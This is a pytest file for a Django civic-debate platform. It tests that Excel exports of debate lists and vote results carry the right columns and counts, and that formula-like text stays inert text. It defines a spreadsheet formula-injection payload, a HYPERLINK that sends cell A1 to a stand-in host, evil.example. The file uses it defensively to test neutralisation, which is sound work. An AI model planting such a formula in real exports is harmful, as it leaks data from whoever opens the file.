"""The Excel exports: the admin list (every filtered row, the screen's columns) and one
debate's full results for each vote type. Text that looks like a formula stays text."""

import io
import re
from datetime import datetime, timedelta

import openpyxl
import pytest
from django.utils import timezone

from deliberation.agencies.sites import site_reverse
from deliberation.debates import admin_services
from deliberation.debates.models import Ballot, BallotChoice, Debate, Opinion
from tests.factories import CitizenFactory, agency_admin

pytestmark = pytest.mark.django_db

SPLIT_HEADER = ("Option", "Online", "Offline (hall)", "Combined")
MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def client(client, settings):
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


def workbook(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def make(admin, agency, vote_type, title="응원봉 금지", **kwargs):
    opens = timezone.now() - timedelta(days=20)
    debate = admin_services.create_debate(actor=admin, agency=agency, vote_type=vote_type, title=title,
                                          opens_at=opens, closes_at=opens + timedelta(days=10), **kwargs)
    Debate.objects.filter(pk=debate.pk).update(is_published=True)
    return debate


def test_the_list_export_has_the_screens_columns_and_every_filtered_row(client, agency):
    admin = agency_admin(agency)
    bad = make(admin, agency, "pro_con", title=MALICIOUS)
    Ballot.objects.create(debate=bad, citizen=CitizenFactory(), option=bad.options.first())
    for i in range(55):
        make(admin, agency, "discussion", title=f"-토론 {i}" if i == 0 else f"토론 {i}")
    trashed = make(admin, agency, "pro_con", title="버린 토론")
    admin_services.apply_debate_action(actor=admin, debate_ids=[trashed.pk], action="trash")

    client.force_login(admin)
    html = client.get(site_reverse(agency, "manage_debates")).content.decode()
    thead = re.search(r"<thead>(.*?)</thead>", html, re.S).group(1)
    response = client.get(site_reverse(agency, "manage_debates_export"))
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="debates-{agency.slug}-{today}.xlsx"'
    sheet = workbook(response)
    rows = list(sheet.iter_rows(values_only=True))
    headers = list(rows[0])
    assert headers == re.findall(r'<th scope="col">([^<]*)</th>', thead)
    assert headers[:4] == ["No.", "Vote type", "State", "Title"]
    assert len(rows) == 1 + 56  # every page; the trash is its own tab
    by_title = {r[3]: dict(zip(headers, r)) for r in rows[1:]}
    row = by_title[MALICIOUS]
    assert row["No."] == bad.pk and row["Vote type"] == "pro/con" and row["Participants"] == 1
    assert row["State"] == "closed" and row["Result"] == "Not yet" and row["Comments"] == 0
    assert isinstance(row["Opens"], datetime) and isinstance(row["Registered"], datetime)

    title_cells = next(sheet.iter_cols(min_col=4, max_col=4, min_row=2))
    assert all(cell.data_type == "s" for cell in title_cells)
    assert {c.value for c in title_cells if c.quotePrefix} == {MALICIOUS, "-토론 0"}

    titles = [r[3] for r in workbook(client.get(site_reverse(agency, "manage_debates_export"),
                                                {"tab": "trash"})).iter_rows(min_row=2, values_only=True)]
    assert titles == ["버린 토론"]


def results(client, agency, debate):
    return list(workbook(client.get(site_reverse(agency, "manage_debate_results_export", pk=debate.pk)))
                .iter_rows(values_only=True))


def test_pro_con_results_one_row_per_option(client, agency):
    admin = agency_admin(agency)
    debate = make(admin, agency, "pro_con", title=MALICIOUS)
    for_, against, other = debate.options.all()
    for option, n in ((for_, 2), (against, 3)):
        for _ in range(n):
            Ballot.objects.create(debate=debate, citizen=CitizenFactory(), option=option)
    Ballot.objects.create(debate=debate, citizen=CitizenFactory(), option=other, other_text="@SUM(1)")
    client.force_login(admin)
    rows = results(client, agency, debate)
    assert rows[1][:2] == ("Title", MALICIOUS) and ("Participants", 6) in [r[:2] for r in rows]
    table = rows[rows.index(SPLIT_HEADER) + 1:]
    assert table[:4] == [("찬성", 2, 0, 2), ("반대", 3, 0, 3), ("기타", 1, 0, 1), ("Total", 6, 0, 6)]
    assert ("Other (written)", "@SUM(1)") in [r[:2] for r in table]
    book = openpyxl.load_workbook(io.BytesIO(client.get(
        site_reverse(agency, "manage_debate_results_export", pk=debate.pk)).content))
    assert book.active["B2"].data_type == "s" and book.active["B2"].quotePrefix


def test_multiple_choice_and_research_results(client, agency):
    admin = agency_admin(agency)
    choice = make(admin, agency, "multiple_choice", choices=["가", "나", "다"], max_choices=2)
    a, b, _c = choice.options.all()
    for picks in ([a, b], [a]):
        ballot = Ballot.objects.create(debate=choice, citizen=CitizenFactory())
        for option in picks:
            BallotChoice.objects.create(ballot=ballot, option=option)
    research = make(admin, agency, "research", questions=[
        {"text": "몇 번?", "options": ["0", "1+"]}, {"text": "무엇을?", "options": ["좌석", "음식"], "max_choices": 2}])
    q1, q2 = research.questions.all()
    ballot = Ballot.objects.create(debate=research, citizen=CitizenFactory())
    BallotChoice.objects.create(ballot=ballot, option=q1.options.last())
    for option in q2.options.all():
        BallotChoice.objects.create(ballot=ballot, option=option)
    client.force_login(admin)
    rows = results(client, agency, choice)
    table = rows[rows.index(SPLIT_HEADER) + 1:]
    assert table == [("가", 2, 0, 2), ("나", 1, 0, 1), ("다", 0, 0, 0), ("Total", 3, 0, 3)]
    rows = results(client, agency, research)
    assert ("Question 1", "몇 번?", None, None) in rows and ("Question 2", "무엇을?", None, None) in rows
    second = rows[rows.index(("Question 2", "무엇을?", None, None)):]
    assert second[1][:2] == ("Answered", 1) and second[2] == SPLIT_HEADER
    assert second[3:6] == [("좌석", 1, 0, 1), ("음식", 1, 0, 1), ("Total", 2, 0, 2)]
    first = rows[rows.index(("Question 1", "몇 번?", None, None)):]
    assert first[3:5] == [("0", 0, 0, 0), ("1+", 1, 0, 1)]


def test_discussion_results_rank_opinions_by_support(client, agency):
    admin = agency_admin(agency)
    debate = make(admin, agency, "discussion")
    Opinion.objects.create(debate=debate, author=CitizenFactory(), body="덜 공감", support_count=1)
    Opinion.objects.create(debate=debate, author=CitizenFactory(), body="=1+1", support_count=5)
    client.force_login(admin)
    rows = results(client, agency, debate)
    table = rows[rows.index(("Rank", "Opinion", "Supports", "Written", "Hidden")) + 1:]
    assert [r[:3] for r in table] == [(1, "=1+1", 5), (2, "덜 공감", 1)]
